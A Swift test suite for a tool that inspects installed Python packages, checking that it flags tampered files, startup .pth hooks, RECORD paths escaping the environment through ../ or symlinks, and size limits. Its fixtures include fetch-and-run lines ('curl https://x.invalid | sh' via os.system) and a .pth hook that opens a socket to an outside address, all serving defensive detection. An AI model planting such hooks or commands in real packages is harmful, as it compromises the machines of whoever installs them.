import AlterTestSupport
import Foundation
import Testing

@testable import AlterKit

/// An installed distribution inspected from the files its RECORD lists.
@Suite struct InstalledDistributionTests {
    /// Lays `builder`'s wheel out as pip installs it under `prefix/lib/python3.12/site-packages`.
    func install(_ builder: ArtifactBuilder, prefix: URL) throws -> String {
        let site = prefix.appendingPathComponent("lib/python3.12/site-packages")
        for member in builder.wheelMembers() {
            let url = site.appendingPathComponent(member.path)
            try FileManager.default.createDirectory(
                at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try member.data.write(to: url)
        }
        return site.path
    }

    @Test func cleanInstallIsQuietAndATamperedFileIsHigh() throws {
        let prefix = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: prefix) }
        var b = ArtifactBuilder(name: "tidy", version: "3.0")
        b.add("tidy/__init__.py", "def f():\n    return 1\n")
        let site = try install(b, prefix: prefix)
        let clean = try ArtifactReader.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        #expect(clean.findings.isEmpty, "\(clean.findings)")
        #expect(clean.format == .installed)
        #expect(clean.project == "tidy")

        // Someone changed the installed code after pip installed it.
        try Data("import os\ndef f():\n    return 1\n".utf8).write(to: URL(fileURLWithPath: site + "/tidy/__init__.py"))
        let changed = try ArtifactReader.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        let mismatch = changed.findings.first { $0.kind == .recordMismatch }
        #expect(mismatch?.severity == .high)
        #expect(mismatch?.evidence.contains("changed since it was installed") == true)
    }

    @Test func installedPthPayloadIsCritical() throws {
        let prefix = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: prefix) }
        var b = ArtifactBuilder(name: "sneaky", version: "1.0")
        b.add("sneaky/__init__.py", "")
        b.add("sneaky.pth", "import sneaky_boot\n")
        b.add("sneaky_boot.py", "import socket\nsocket.create_connection(('203.0.113.5', 443))\n")
        let site = try install(b, prefix: prefix)
        let r = try ArtifactReader.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        #expect(r.findings.first { $0.kind == .pthCode }?.severity == .critical)
        #expect(r.findings.contains { $0.kind == .network && $0.file == "sneaky_boot.py" && $0.phase == .startup })
        #expect(throws: InspectError.self) {
            try ArtifactReader.inspectInstalled(distInfo: "missing-1.0.dist-info", sitePackages: site)
        }
    }
}

/// The bounds of reading an installed distribution: what RECORD may not make us read, and the size limits.
@Suite struct InstalledDistributionBoundsTests {
    /// A distribution whose RECORD also lists `extra` paths (relative to site-packages), with no hash.
    func install(_ b: ArtifactBuilder, prefix: URL, extraRecord: [String]) throws -> String {
        let site = try InstalledDistributionTests().install(b, prefix: prefix)
        let record = URL(fileURLWithPath: site + "/" + b.distInfo + "/RECORD")
        var text = try String(contentsOf: record, encoding: .utf8)
        for path in extraRecord { text += "\(path),,\n" }
        try Data(text.utf8).write(to: record)
        return site
    }

    @Test func recordPathsOutOfTheEnvironmentAreFindingsNotReads() throws {
        let root = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: root) }
        let prefix = root.appendingPathComponent("venv")
        // A secret beside the environment, which RECORD points at with ../ and through a link.
        try Data("import os\nos.system('curl https://x.invalid | sh')  # SECRET-LINE\n".utf8)
            .write(to: root.appendingPathComponent("secret.py"))
        var b = ArtifactBuilder(name: "reach", version: "1.0")
        b.add("reach/__init__.py", "")
        let site = try install(
            b, prefix: prefix,
            extraRecord: ["../../../../secret.py", "reach/linked.py", "../../../bin/reach-tool"])
        try FileManager.default.createSymbolicLink(
            atPath: site + "/reach/linked.py", withDestinationPath: root.appendingPathComponent("secret.py").path)
        // A script in the environment's bin/ (inside the prefix) is read like the rest.
        try FileManager.default.createDirectory(
            at: prefix.appendingPathComponent("bin"), withIntermediateDirectories: true)
        try Data("#!/bin/sh\ncurl https://x.invalid | sh\n".utf8).write(
            to: prefix.appendingPathComponent("bin/reach-tool"))
        let r = try ArtifactReader.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        let outside = r.findings.filter { $0.evidence.contains("outside the environment") }
        #expect(Set(outside.map(\.file)) == ["../../../../secret.py", "reach/linked.py"], "\(r.findings)")
        #expect(outside.allSatisfy { $0.kind == .archiveLimit && $0.severity == .medium })
        #expect(!r.findings.contains { $0.evidence.contains("SECRET-LINE") }, "\(r.findings)")
        #expect(r.fileCount == 5, "\(r.findings)")
    }

    @Test func perFileAndTotalLimits() throws {
        let prefix = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: prefix) }
        var b = ArtifactBuilder(name: "bulky", version: "1.0")
        b.add("bulky/__init__.py", "")
        b.add("bulky/big.dat", String(repeating: "x", count: 5000))
        b.add("bulky/more.dat", String(repeating: "y", count: 3000))
        let site = try InstalledDistributionTests().install(b, prefix: prefix)
        let perFile = try ArtifactReader.inspectInstalled(
            distInfo: b.distInfo, sitePackages: site, limits: InstalledLimits(maxFileBytes: 4000))
        #expect(
            perFile.findings.contains { $0.kind == .unanalyzed && $0.file == "bulky/big.dat" && $0.severity == .low })
        #expect(perFile.complete)
        let total = try ArtifactReader.inspectInstalled(
            distInfo: b.distInfo, sitePackages: site, limits: InstalledLimits(maxTotalBytes: 6000))
        #expect(!total.complete)
        #expect(total.findings.contains { $0.kind == .archiveLimit && $0.evidence.contains("6000 bytes in all") })
    }

    @Test func layoutOfPrefixesAndTargetDirectories() {
        #expect(InstalledLayout(sitePackages: "/nonexistent/v/lib/python3.12/site-packages").prefix == "/nonexistent/v")
        #expect(
            InstalledLayout(sitePackages: "/nonexistent/usr/lib/python3/dist-packages").prefix == "/nonexistent/usr")
        // pip install --target DIR: nothing outside DIR is the distribution's.
        #expect(InstalledLayout(sitePackages: "/nonexistent/t").prefix == "/nonexistent/t")
    }

    @Test func fingerprintAndCacheFollowTheInstalledFiles() throws {
        let root = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: root) }
        var b = ArtifactBuilder(name: "tidy", version: "3.0")
        b.add("tidy/__init__.py", "def f():\n    return 1\n")
        let site = try InstalledDistributionTests().install(b, prefix: root.appendingPathComponent("venv"))
        let store = ArtifactStore(directory: root.path + "/cache", http: CurlHTTPClient(environment: [:]))
        let first = ArtifactStore.installedFingerprint(distInfo: b.distInfo, sitePackages: site)
        #expect(first != nil)
        #expect(try store.inspectInstalled(distInfo: b.distInfo, sitePackages: site).findings.isEmpty)
        #expect(ArtifactStore.installedFingerprint(distInfo: b.distInfo, sitePackages: site) == first)
        try Data("import os\nos.system('curl https://x.invalid | sh')\n".utf8)
            .write(to: URL(fileURLWithPath: site + "/tidy/__init__.py"))
        #expect(ArtifactStore.installedFingerprint(distInfo: b.distInfo, sitePackages: site) != first)
        let changed = try store.inspectInstalled(distInfo: b.distInfo, sitePackages: site)
        #expect(changed.findings.contains { $0.kind == .recordMismatch })
        #expect(ArtifactStore.installedFingerprint(distInfo: "nothere-1.0.dist-info", sitePackages: site) == nil)
    }
}

@Suite struct UnownedStartupFileTests {
    @Test func pthLeftBehindByAnInstallScriptIsFound() throws {
        let prefix = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: prefix) }
        var b = ArtifactBuilder(name: "owned", version: "1.0")
        b.add("owned/__init__.py", "")
        b.add("owned.pth", "import owned\n")
        let site = try InstalledDistributionTests().install(b, prefix: prefix)
        #expect(try ArtifactReader.inspectUnownedStartupFiles(sitePackages: site).findings.isEmpty)

        try Data("import _helper\n".utf8).write(to: URL(fileURLWithPath: site + "/zz_helper.pth"))
        try Data("import os\nos.system('curl -s https://x.invalid | sh')\n".utf8)
            .write(to: URL(fileURLWithPath: site + "/_helper.py"))
        let r = try ArtifactReader.inspectUnownedStartupFiles(sitePackages: site)
        let pth = r.findings.first { $0.kind == .pthCode }
        #expect(pth?.file == "zz_helper.pth")
        #expect(pth?.severity == .critical)
        #expect(pth?.evidence.contains("not listed by any installed distribution") == true)
        #expect(!r.findings.contains { $0.file == "owned.pth" })
    }
}
